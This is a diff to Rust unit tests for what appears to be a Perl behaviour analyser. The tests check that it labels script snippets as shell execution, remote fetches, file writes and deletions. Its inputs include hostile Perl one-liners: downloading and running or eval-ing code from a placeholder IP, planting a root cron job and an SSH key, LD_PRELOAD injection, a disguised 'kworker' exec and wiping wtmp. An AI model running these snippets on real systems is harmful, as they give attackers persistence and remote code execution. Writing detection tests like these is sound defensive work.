@@ -33,23 +33,44 @@ fn connections_carry_shells() {
 #[test]
 fn programs_are_started() {
     for (script, act) in [
-        ("system('id');", "execute id"),
-        ("system 'rm', '-rf', '/x';", "execute rm -rf /x"),
-        ("my $x = `uname -a`;", "execute uname -a"),
-        ("print qx{hostname};", "execute hostname"),
-        ("open(my $f, '-|', 'ps', 'aux') or die;", "execute ps aux"),
-        ("open(P, '|sh'); print P \"id\\n\"; close(P);", "execute sh  <text:id"),
-        ("open F, \"ls |\";", "execute ls"),
-        ("exec { '/bin/sh' } 'kworker', '-c', 'id';", "execute /bin/sh -c id"),
-        ("sub run { my ($c) = @_; return `$c`; } run('whoami');", "execute whoami"),
-        ("my $f = sub { system(shift) }; $f->('id');", "execute id"),
-        ("package A; sub new { my $class = shift; my $self = { cmd => shift }; return bless $self, $class; } sub go { my $self = shift; system($self->{cmd}); } package main; my $a = A->new('id'); $a->go();", "execute id"),
-        ("for my $c (qw(id w)) { system $c }", "execute w"),
-        ("system($_) foreach ('id');", "execute id"),
-        ("my %h = (a => 'id'); system($h{a}) if 1;", "execute id"),
-        ("my @c = ('id', 'w'); system($c[1]);", "execute w"),
-        ("BEGIN { system 'id' }", "execute id"),
-        ("$ENV{LD_PRELOAD} = '/tmp/x.so'; system 'id';", "SetVariable"),
+        ("system('id');", "evaluate shell: id"),
+        ("system './x', '-rf', '/x';", "execute ./x -rf /x"),
+        ("my $x = `uname -a`;", "evaluate shell: uname"),
+        ("print qx{hostname};", "evaluate shell: hostname"),
+        ("open(my $f, '-|', './x', 'aux') or die;", "execute ./x aux"),
+        (
+            "open(P, '|sh'); print P \"id\\n\"; close(P);",
+            "evaluate shell: id",
+        ),
+        ("open F, \"ls |\";", "evaluate shell: ls"),
+        (
+            "exec { '/bin/sh' } 'kworker', '-c', 'id';",
+            "evaluate shell: id",
+        ),
+        (
+            "sub run { my ($c) = @_; return `$c`; } run('whoami');",
+            "evaluate shell: whoami",
+        ),
+        (
+            "my $f = sub { system(shift) }; $f->('id');",
+            "evaluate shell: id",
+        ),
+        (
+            "package A; sub new { my $class = shift; my $self = { cmd => shift }; return bless $self, $class; } sub go { my $self = shift; system($self->{cmd}); } package main; my $a = A->new('id'); $a->go();",
+            "evaluate shell: id",
+        ),
+        ("for my $c (qw(id w)) { system $c }", "evaluate shell: w"),
+        ("system($_) foreach ('id');", "evaluate shell: id"),
+        (
+            "my %h = (a => 'id'); system($h{a}) if 1;",
+            "evaluate shell: id",
+        ),
+        ("my @c = ('id', 'w'); system($c[1]);", "evaluate shell: w"),
+        ("BEGIN { system 'id' }", "evaluate shell: id"),
+        (
+            "$ENV{LD_PRELOAD} = '/tmp/x.so'; system 'id';",
+            "SetVariable",
+        ),
     ] {
         assert!(does(script, act));
     }
@@ -58,13 +79,34 @@ fn programs_are_started() {
 #[test]
 fn fetches_and_files_are_told() {
     for (script, act) in [
-        ("use LWP::Simple; getstore('http://192.0.2.1/x', '/tmp/x'); chmod 0755, '/tmp/x'; system '/tmp/x';", "fetch http://192.0.2.1/x to /tmp/x"),
-        ("use LWP::UserAgent; my $ua = LWP::UserAgent->new; my $r = $ua->get('http://192.0.2.1/p.pl'); eval $r->decoded_content;", "evaluate Perl: {content of http://192.0.2.1/p.pl}"),
-        ("use HTTP::Tiny; eval HTTP::Tiny->new->get('http://192.0.2.1/p')->{content};", "evaluate Perl: {content of http://192.0.2.1/p}"),
-        ("use LWP::Simple; eval get('http://192.0.2.1/p');", "evaluate Perl: {content of http://192.0.2.1/p}"),
-        ("open(my $fh, '>', '/etc/cron.d/x') or die; print $fh \"* * * * * root sh /tmp/x\\n\"; close $fh;", "write /etc/cron.d/x"),
-        ("open(F, '>>/root/.ssh/authorized_keys'); print F 'ssh-rsa AAAA'; close(F);", "write /root/.ssh/authorized_keys"),
-        ("open F, '>/tmp/x'; print {F} <<'E'; close F;\n#!/bin/sh\nid\nE\n", "write /tmp/x: #!/bin/sh"),
+        (
+            "use LWP::Simple; getstore('http://192.0.2.1/x', '/tmp/x'); chmod 0755, '/tmp/x'; system '/tmp/x';",
+            "fetch http://192.0.2.1/x to /tmp/x",
+        ),
+        (
+            "use LWP::UserAgent; my $ua = LWP::UserAgent->new; my $r = $ua->get('http://192.0.2.1/p.pl'); eval $r->decoded_content;",
+            "evaluate Perl: {content of http://192.0.2.1/p.pl}",
+        ),
+        (
+            "use HTTP::Tiny; eval HTTP::Tiny->new->get('http://192.0.2.1/p')->{content};",
+            "evaluate Perl: {content of http://192.0.2.1/p}",
+        ),
+        (
+            "use LWP::Simple; eval get('http://192.0.2.1/p');",
+            "evaluate Perl: {content of http://192.0.2.1/p}",
+        ),
+        (
+            "open(my $fh, '>', '/etc/cron.d/x') or die; print $fh \"* * * * * root sh /tmp/x\\n\"; close $fh;",
+            "write /etc/cron.d/x",
+        ),
+        (
+            "open(F, '>>/root/.ssh/authorized_keys'); print F 'ssh-rsa AAAA'; close(F);",
+            "write /root/.ssh/authorized_keys",
+        ),
+        (
+            "open F, '>/tmp/x'; print {F} <<'E'; close F;\n#!/bin/sh\nid\nE\n",
+            "write /tmp/x: #!/bin/sh",
+        ),
         ("unlink '/var/log/wtmp', $0;", "Delete"),
         ("kill 9, 1234;", "Kill"),
     ] {
@@ -74,7 +116,17 @@ fn fetches_and_files_are_told() {
 
 #[test]
 fn lines_are_those_of_the_file() {
-    let lowered = super::lowered("#!/usr/bin/perl\n\n=pod\n\nx\n\n=cut\n\nmy $x = 1;\nsystem('id');\n");
-    assert!(lowered.acts.iter().all(|act| act.line == 10), "{:?}", lowered.acts);
-    assert!(lowered.acts.iter().any(|act| act.evidence.contains("system('id')")));
+    let lowered =
+        super::lowered("#!/usr/bin/perl\n\n=pod\n\nx\n\n=cut\n\nmy $x = 1;\nsystem('id');\n");
+    assert!(
+        lowered.acts.iter().all(|act| act.line == 10),
+        "{:?}",
+        lowered.acts
+    );
+    assert!(
+        lowered
+            .acts
+            .iter()
+            .any(|act| act.evidence.contains("system('id')"))
+    );
 }
